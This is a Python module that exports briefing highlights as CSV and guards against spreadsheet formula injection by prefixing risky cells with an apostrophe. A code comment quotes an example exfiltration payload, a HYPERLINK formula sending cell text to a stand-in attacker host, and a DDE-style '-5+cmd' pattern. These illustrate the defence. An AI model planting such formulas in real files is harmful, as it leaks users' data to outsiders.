"""The CSV form of a briefing: one row per highlight, safe to open in a spreadsheet."""

from __future__ import annotations

import csv
import io

from briefing.core.export.model import Briefing

CSV_FIELDS = (
    "article_id",
    "title",
    "source",
    "date",
    "quote",
    "note",
    "tags",
    "color",
    "start",
    "end",
    "status",
    "created",
    "modified",
    "author",
    # Where to cite it from, and what the analyst said of the article as a whole
    "file",
    "line",
    "url",
    "article_tags",
    "article_note",
)


# Spreadsheets run a cell that starts with one of these as a formula (or as DDE), so a note
# `=HYPERLINK("http://evil.example/?x="&F2,"x")` in a colleague's file would send the
# next cell's text to a stranger when the briefing is opened. OWASP's rule, kept whole: a
# cell that starts with one of them gets a leading apostrophe, which spreadsheets show as
# text. A negative number ("-5") in a text field is quoted too ("'-5"): telling numbers
# from "-5+cmd|..." is where filters go wrong, and our only number columns (start, end)
# are never negative.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(cell: str) -> str:
    """*cell* with a leading ``'`` when it starts like a formula (:data:`FORMULA_STARTS`)."""
    return "'" + cell if cell.startswith(FORMULA_STARTS) else cell


def to_csv(briefing: Briefing) -> str:
    """One row per highlight under a header of :data:`CSV_FIELDS`; RFC 4180 (CRLF rows,
    fields quoted when they hold a comma, quote or line break). Tags are ``;``-joined
    (``tags`` the highlight's own, ``article_tags`` its article's, which apply to it too);
    start/end are offsets into the current clean text, empty for orphans; ``file`` is the
    corpus file as cited (``corpus/world/001.txt``) and ``line`` its 1-based line where the
    passage starts, empty when unknown. Every text cell goes through :func:`neutralise`.
    No byte order mark: :func:`render` adds it."""
    out = io.StringIO()
    writer = csv.writer(out, quoting=csv.QUOTE_MINIMAL, lineterminator="\r\n")
    writer.writerow(CSV_FIELDS)
    for e in briefing.entries:
        h, a = e.highlight, e.article
        row: list[str | int] = [
            a.id,
            a.title,
            a.source or "",
            a.date or "",
            e.quote,
            h.note,
            ";".join(h.tags),
            h.color,
            "" if e.start is None else e.start,
            "" if e.end is None else e.end,
            e.status.value,
            h.created,
            h.modified,
            h.author,
            a.cited_path if a.present else "",
            "" if e.line is None else e.line,
            a.url or "",
            ";".join(a.tags),
            a.note,
        ]
        writer.writerow([neutralise(c) if isinstance(c, str) else c for c in row])
    return out.getvalue()
